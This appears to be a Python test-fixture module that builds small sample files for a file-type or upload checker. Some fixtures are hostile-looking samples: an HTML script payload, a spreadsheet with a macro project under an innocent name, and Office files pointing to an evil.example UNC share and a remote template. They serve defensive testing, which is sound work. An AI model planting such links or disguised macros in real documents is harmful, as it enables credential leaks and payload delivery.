"""Small files of each kind, built in memory."""

import io
import zipfile

from openpyxl import Workbook

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
HTML = b"<!doctype html><script>alert(1)</script>"
EXE = b"MZ\x90\x00" + b"\x00" * 60

_CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
)


def xlsx() -> bytes:
    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def docx() -> bytes:
    content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _zip(
        {
            "[Content_Types].xml": _CT.format(part="word/document.xml", content_type=content_type),
            "word/document.xml": "<w:document/>",
        }
    )


def xlsm() -> bytes:
    content_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return _zip(
        {
            "[Content_Types].xml": _CT.format(part="xl/workbook.xml", content_type=content_type),
            "xl/workbook.xml": "<workbook/>",
        }
    )


def plain_zip() -> bytes:
    return _zip({"readme.txt": "hello"})


def with_parts(content: bytes, parts: dict[str, str], content_types: str = "") -> bytes:
    """Return the Office file ``content`` with ``parts`` added and ``content_types`` declared."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types.encode() + b"</Types>")
            archive.writestr(info, data)
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _relationship(kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return _RELS.format(f'<Relationship Id="rId9" Type="{kind}" Target="{target}"{mode}/>')


def xlsx_with_macros_under_an_innocent_name() -> bytes:
    return with_parts(
        xlsx(),
        {"xl/code.bin": "VBA", "xl/_rels/extra.rels": _relationship(_VBA, "code.bin")},
        '<Override PartName="/xl/code.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def xlsx_with_an_external_link() -> bytes:
    rels = _relationship(_OFFICE + "externalLinkPath", "file://\\\\evil.example\\share\\x.xlsx", external=True)
    return with_parts(xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def docx_with_a_remote_template() -> bytes:
    rels = _relationship(_OFFICE + "attachedTemplate", "http://evil.example/t.dotm", external=True)
    return with_parts(docx(), {"word/_rels/settings.xml.rels": rels, "word/settings.xml": "<w:settings/>"})


def docx_with_a_web_link() -> bytes:
    rels = _relationship(_OFFICE + "hyperlink", "https://www.metro.tokyo.lg.jp/", external=True)
    return with_parts(docx(), {"word/_rels/document.xml.rels": rels})
